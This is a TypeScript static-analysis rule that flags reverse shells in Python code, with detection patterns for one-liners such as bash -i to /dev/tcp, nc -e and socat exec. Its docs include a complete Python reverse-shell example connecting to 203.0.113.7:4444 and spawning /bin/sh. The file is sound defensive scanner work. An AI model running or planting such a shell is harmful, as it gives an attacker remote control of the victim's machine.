/**
 * KR605 reverse-shell: a shell wired to a network connection — `socket` + `os.dup2(s.fileno(), 0/1/2)`
 * + a shell or `pty.spawn`, a process whose stdin/stdout is a socket, commands received
 * from a socket and run, or the shell one-liners (`bash -i >& /dev/tcp/…`, `nc -e`).
 */
import { defineRule, fileState } from '../../core/rule.js';
import type * as A from '../../python/ast.js';
import { walk } from '../../python/visit.js';
import { PROCESS_CALL, constantText, exprWords, factsFor, phaseWord } from './facts.js';

const SHELL = /(?:^|[\\/\s'"])(?:sh|bash|zsh|dash|ksh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b/i;
const SHELL_ONE_LINER = /\/dev\/(?:tcp|udp)\/|\bnc(?:at)?\b[^\n]*\s-[ec]\s|\bbash\s+-i\b|\bmkfifo\b[^\n]*\bnc\b|\bsocat\b[^\n]*exec:|TCPClient\(|\bsh\s+-i\b/i;

/**
 * Per file, gathered during the walk: a socket is opened or connected, a socket's fileno is
 * `dup2`ed onto a standard stream, the names holding data received from a socket (and what
 * is assigned from them, in walk order), and the process-running calls to judge at the end.
 */
const collected = fileState(() => ({ connects: false, dup2Socket: false, recvNames: new Set<string>(), calls: [] as { node: A.Call; q: string; isProcess: boolean }[] }));

function usesNames(e: A.AnyNode, names: Set<string>): boolean {
  let hit = false;
  walk(e, (n) => {
    if (n.type === 'Name' && names.has(n.id)) hit = true;
    return !hit;
  });
  return hit;
}

export const reverseShell = defineRule({
  id: 'KR605',
  name: 'reverse-shell',
  category: 'code',
  severity: 'critical',
  confidence: 'high',
  cwe: [506],
  docs: {
    what:
      'Flags a shell connected to the network: `os.dup2(sock.fileno(), 0|1|2)` with a shell or `pty.spawn` in a file that opens a socket; a process whose stdin/stdout is a socket; a command received with `recv()` and run; and the shell one-liners `bash -i >& /dev/tcp/host/port`, `nc -e /bin/sh`, `mkfifo … | nc`, `socat … exec:`, PowerShell `TCPClient`. Always critical.',
    why:
      'A reverse shell hands an attacker an interactive command line on the machine that installed or imported the package — a backdoor, embedded malicious code (CWE-506). Honest code that checks a port (`connect_ex`) or runs fixed commands never wires a socket to a shell.',
    example: 'import os, pty, socket\ns = socket.create_connection(("203.0.113.7", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")',
    instead: 'There is no safe version: remove it. For remote administration use SSH with keys and an audited server.',
    references: ['https://cwe.mitre.org/data/definitions/506.html', 'https://attack.mitre.org/techniques/T1059/006/'],
  },
  visit: {
    Call(node, ctx) {
      const sf = collected(ctx);
      const q = ctx.callName(node) ?? '';
      const qf = ctx.semantic.qualifiedName(node.func) ?? '';
      if (qf === 'socket.create_connection' || (node.func.type === 'Attribute' && (node.func.attr === 'connect' || node.func.attr === 'connect_ex')) || qf === 'socket.socket') sf.connects = true;
      if (qf === 'os.dup2' && node.args[0] && /fileno/.test(exprWords(node.args[0]))) sf.dup2Socket = true;
      const isProcess = PROCESS_CALL.test(q);
      if (isProcess || q === 'pty.spawn') sf.calls.push({ node, q, isProcess });
    },
    Assign(n, ctx) {
      const sf = collected(ctx);
      if (n.value.type === 'Call' && n.value.func.type === 'Attribute' && /^recv(?:from)?$/.test(n.value.func.attr)) {
        for (const t of n.targets) if (t.type === 'Name') sf.recvNames.add(t.id);
      }
      // cmd = data.decode().strip()
      if (sf.recvNames.size && usesNames(n.value, sf.recvNames)) for (const t of n.targets) if (t.type === 'Name') sf.recvNames.add(t.id);
    },
    'Module:exit'(_module, ctx) {
      const sf = collected(ctx);
      for (const { node, q, isProcess } of sf.calls) {
        let why: string | undefined;
        const text = constantText(node);
        if (isProcess && SHELL_ONE_LINER.test(text)) why = 'a reverse-shell command';
        else {
          const pipes = node.keywords.filter((k) => k.arg === 'stdin' || k.arg === 'stdout' || k.arg === 'stderr');
          if (sf.connects && sf.dup2Socket && (q === 'pty.spawn' || SHELL.test(text) || node.keywords.some((k) => k.arg === 'shell'))) why = 'a shell whose standard streams were redirected to a socket';
          else if (sf.connects && pipes.some((k) => /fileno|sock|conn/.test(exprWords(k.value))) && SHELL.test(text)) why = 'a shell reading from and writing to a socket';
          else if (sf.connects && sf.recvNames.size && node.args.some((a) => usesNames(a, sf.recvNames))) why = 'commands received from a socket';
        }
        if (!why) continue;
        const phase = factsFor(node, ctx.semantic, ctx.path).phaseOf(node);
        ctx.report(node, {
          message: `Reverse shell: ${why} is run ${phaseWord(phase)}.`,
          fix: 'Remove the remote shell.',
          properties: { indicator: 'reverse-shell', phase },
        });
      }
    },
  },
});
